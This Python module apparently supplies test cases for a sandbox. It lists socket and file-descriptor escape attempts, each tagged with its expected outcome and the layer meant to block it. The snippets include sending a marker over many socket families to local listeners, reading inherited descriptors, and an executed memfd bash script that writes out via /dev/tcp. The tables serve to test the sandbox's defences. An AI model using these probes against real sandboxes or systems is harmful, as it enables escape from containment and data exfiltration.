"""Attacks through sockets of every family, and through descriptors that came from elsewhere."""

from tests.sandbox.attacks.records import (
    CONTACT,
    HOST,
    LANDLOCK,
    LEAK,
    NAMESPACES,
    PROCESS,
    REACHED,
    SECCOMP,
    UID,
    Attack,
    Rows,
)

OUTSIDE = (SECCOMP, NAMESPACES)

SOCKETS: Rows = [
    Attack(
        "socket: TCP",
        CONTACT,
        (SECCOMP, LANDLOCK, NAMESPACES),
        "import socket\nsocket.create_connection(('127.0.0.1', TCP)).sendall(NAME.encode())",
    ),
    Attack(
        "socket: TCP over IPv6",
        CONTACT,
        (SECCOMP, LANDLOCK, NAMESPACES),
        "import socket\nsocket.create_connection(('::1', TCP6)).sendall(NAME.encode())",
    ),
    Attack(
        "socket: UDP",
        CONTACT,
        OUTSIDE,
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(NAME.encode(), ('127.0.0.1', UDP))",
    ),
    Attack(
        "socket: Unix stream",
        CONTACT,
        (SECCOMP,),
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(UNIX)\ns.sendall(NAME.encode())",
    ),
    Attack(
        "socket: Unix datagram",
        CONTACT,
        (SECCOMP,),
        "import socket\nsocket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(NAME.encode(), UNIX_DATAGRAM)",
    ),
    Attack(
        "socket: Unix abstract",
        CONTACT,
        (SECCOMP, LANDLOCK, NAMESPACES),
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0' + ABSTRACT)\ns.sendall(NAME.encode())",
    ),
    Attack(
        "socket: netlink to the host",
        CONTACT,
        OUTSIDE,
        "import socket\nsocket.socket(16, socket.SOCK_RAW, 2).sendto(NAME.encode(), (NETLINK, 0))",
    ),
    Attack(
        "socket: an HTTP request",
        CONTACT,
        (SECCOMP, LANDLOCK, NAMESPACES),
        "import http.client, urllib.parse\nc = http.client.HTTPConnection('127.0.0.1', TCP)\nc.request('GET', '/' + urllib.parse.quote(NAME), headers={'X-Name': NAME})",
    ),
    Attack(
        "socket: asyncio's connection",
        CONTACT,
        (SECCOMP, LANDLOCK, NAMESPACES),
        """
import asyncio
async def main():
    _, writer = await asyncio.open_connection("127.0.0.1", TCP)
    writer.write(NAME.encode())
    await writer.drain()
asyncio.run(main())
""",
    ),
    Attack(
        "socket: connect of the C library",
        CONTACT,
        (SECCOMP, LANDLOCK, NAMESPACES),
        """
import struct
c = libc()
s = granted(c.socket(2, 1, 0))
granted(c.connect(s, struct.pack("<HHI8x", 2, int.from_bytes(TCP.to_bytes(2, "little"), "big"), 0x0100007F), 16))
c.send(s, NAME.encode(), len(NAME), 0)
""",
    ),
    Attack(
        "socket: TCP with data in the first packet",
        CONTACT,
        OUTSIDE,
        "import socket\nsocket.socket().sendto(NAME.encode(), socket.MSG_FASTOPEN, ('127.0.0.1', TCP))",
    ),
    Attack(
        "socket: raw IP",
        REACHED,
        (SECCOMP, UID),
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nreached()",
    ),
    Attack(
        "socket: packets",
        REACHED,
        (SECCOMP, UID),
        "import socket\nsocket.socket(17, socket.SOCK_RAW, 3)\nreached()",
    ),
    Attack(
        "socket: the kernel's ciphers",
        REACHED,
        (SECCOMP,),
        "import socket\nsocket.socket(38, socket.SOCK_SEQPACKET)\nreached()",
    ),
    Attack(
        "socket: virtual machine sockets",
        REACHED,
        (SECCOMP,),
        "import socket\nsocket.socket(40, socket.SOCK_STREAM)\nreached()",
    ),
    Attack(
        "socket: routes by netlink",
        REACHED,
        (SECCOMP,),
        "import socket\ns = socket.socket(16, socket.SOCK_RAW, 0)\ns.bind((0, 0))\nreached()",
    ),
    Attack(
        "socket: every family and kind",
        REACHED,
        (SECCOMP,),
        """
import socket
for family in range(1, 47):
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind).close()
        except OSError:
            continue
        reached()
""",
    ),
    Attack(
        "socket: a server",
        REACHED,
        (SECCOMP, LANDLOCK),
        "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\nreached()",
    ),
]

DESCRIPTORS: Rows = [
    Attack(
        "descriptor: all that were inherited, read",
        LEAK,
        (PROCESS,),
        """
import os
for fd in range(256):
    try:
        os.set_blocking(fd, False)
        print(fd, os.read(fd, 9999))
        print(fd, os.pread(fd, 9999, 0))
    except OSError:
        pass
""",
    ),
    Attack(
        "descriptor: all that were inherited, written",
        CONTACT,
        (PROCESS,),
        """
import os
for fd in range(256):
    try:
        os.set_blocking(fd, False)
        os.write(fd, NAME.encode())
    except OSError:
        pass
""",
    ),
    Attack(
        "descriptor: our own, opened again by /proc/self/fd",
        REACHED,
        (SECCOMP, LANDLOCK),
        "import posix as os\nfor fd in os.listdir('/proc/self/fd'):\n    os.close(os.open('/proc/self/fd/' + fd, os.O_RDONLY | os.O_NONBLOCK))\n    reached()",
    ),
    Attack(
        "descriptor: names of our own",
        REACHED,
        (SECCOMP, LANDLOCK),
        "import posix as os\nif os.listdir('/proc/self/fd'): reached()",
    ),
    Attack(
        "descriptor: handed out by somebody outside",
        LEAK,
        (SECCOMP,),
        """
import os, socket
s = socket.socket(socket.AF_UNIX)
s.connect(HANDOUT)
_, fds, _, _ = socket.recv_fds(s, 10, 4)
print(os.pread(fds[0], 999, 0))
""",
    ),
    Attack(
        "descriptor: taken from our own channel",
        REACHED,
        (SECCOMP,),
        """
import socket
for fd in range(64):
    try:
        s = socket.socket(fileno=fd)
        s.setblocking(False)
        socket.send_fds(s, [b"x"], [fd] * 8)
        reached()
    except OSError:
        pass
""",
    ),
    Attack(
        "descriptor: all closed",
        HOST,
        (PROCESS,),
        "import os\nos.closerange(0, 4096)\nprint('x')",
    ),
    Attack(
        "descriptor: all closed, then a loop",
        HOST,
        (PROCESS,),
        "import os\nos.closerange(0, 4096)\nwhile True: pass",
        seconds=1,
    ),
    Attack(
        "descriptor: one put over all others",
        HOST,
        (PROCESS,),
        "import os\nr, w = os.pipe()\nfor fd in range(3, 64):\n    if fd not in (r, w): os.dup2(r, fd)\nprint('x')",
    ),
    Attack(
        "descriptor: as many as there are",
        REACHED,
        (SECCOMP,),
        "import os\nfds = [os.dup(1) for _ in range(900)]\nreached()",
    ),
    Attack(
        "descriptor: signals sent through a pipe's owner",
        REACHED,
        (SECCOMP,),
        "import fcntl, os\nr, w = os.pipe()\nfcntl.fcntl(r, fcntl.F_SETOWN, HOST)\nfcntl.fcntl(r, 10, SIGNAL)\nfcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)\nreached()",
    ),
    Attack(
        "descriptor: a pipe as large as can be had",
        REACHED,
        (SECCOMP,),
        "import fcntl, os\nif fcntl.fcntl(os.pipe()[0], 1031, 1 << 20) >= 1 << 20: reached()",
    ),
    Attack("descriptor: memfd", REACHED, (SECCOMP,), "import os\nos.memfd_create('x')\nreached()"),
    Attack(
        "descriptor: a memfd that is executed",
        CONTACT,
        (SECCOMP, LANDLOCK),
        """
import os
fd = os.memfd_create("x", 0)
os.write(fd, f"#!/bin/sh\\nprintf '%s' '{NAME}' > /dev/tcp/127.0.0.1/{TCP}\\n".encode().replace(b"/bin/sh", b"/bin/bash"))
if os.fork() == 0:
    os.execve(fd, ["x"], {})
os.wait()
""",
    ),
]

ATTACKS = {"sockets": SOCKETS, "descriptors": DESCRIPTORS}
